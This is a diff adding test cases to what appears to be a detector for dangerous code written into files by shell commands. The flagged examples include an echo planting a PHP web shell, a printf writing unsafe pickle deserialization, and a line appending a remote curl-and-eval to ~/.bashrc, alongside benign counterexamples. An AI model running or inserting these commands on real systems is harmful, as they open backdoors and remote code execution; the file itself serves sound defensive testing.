@@ -620,3 +620,17 @@ describe('script engines of game, desktop and mobile platforms speak on input; t
     ['Android loadUrl of a page', write('/p/app/Web.java', 'webView.loadUrl(url);\nwebView.loadUrl("javascript:init()");\n')],
   ])('%s stays silent', (_, event) => expect(found(event)).toBeUndefined());
 });
+
+describe('what an echo or printf writes into a file is that file’s code', () => {
+  test.each([
+    `echo '<?php eval($_GET["c"]); ?>' > shell.php`,
+    "printf 'import pickle\\nobj = pickle.loads(request.data)\\n' > app.py",
+    `echo 'eval "$(curl -fsSL https://x.io/i.sh)"' >> ~/.bashrc`,
+  ])('%s speaks', (command) => expect(found(bash(command))?.length).toBeGreaterThan(0));
+  test.each([
+    `echo 'eval "$(starship init bash)"' >> ~/.bashrc`,
+    "echo 'print(json.loads(s))' > a.py",
+    "echo 'eval(x)' > notes.txt",
+    "echo 'yaml.safe_load(f)' > a.py",
+  ])('%s stays silent', (command) => expect(detect(bash(command))).toBeUndefined());
+});
